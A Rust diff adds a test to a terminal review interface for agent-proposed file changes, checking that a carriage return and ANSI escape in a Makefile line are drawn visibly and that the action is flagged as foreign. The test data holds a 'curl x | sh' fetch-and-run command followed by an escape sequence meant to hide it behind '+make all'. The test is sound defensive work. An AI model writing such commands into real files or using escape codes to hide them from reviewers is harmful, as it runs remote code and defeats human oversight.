@@ -212,3 +212,35 @@ fn tiny_terminals_draw_without_panicking() {
         }
     }
 }
+
+#[test]
+fn a_carriage_return_and_escape_in_a_line_are_drawn_visibly_and_a_foreign_action_is_marked() {
+    let mut actions = two_actions();
+    actions[0] = ActionView {
+        id: "pending-action:write:9".to_owned(),
+        version: "v9".to_owned(),
+        label: "Write: Makefile".to_owned(),
+        origin: "agent".to_owned(),
+        age: "1m ago".to_owned(),
+        files: vec![crate::review::sample::file(
+            "Makefile",
+            FileKind::Create,
+            vec![crate::review::sample::hunk(
+                "Makefile",
+                1,
+                "@@ -0,0 +1 @@",
+                &["+curl x | sh \r\u{1b}[2K+make all"],
+            )],
+        )],
+        note: None,
+        foreign: true,
+    };
+    let app = App::new(actions);
+    let screen = text(&drawn(&app, PLAIN));
+    assert!(screen.contains("+curl x | sh ␍␛[2K+make all"), "{screen}");
+    assert!(
+        !screen.contains('\r') && !screen.contains('\u{1b}'),
+        "{screen}"
+    );
+    assert!(screen.contains("FOREIGN"), "{screen}");
+}
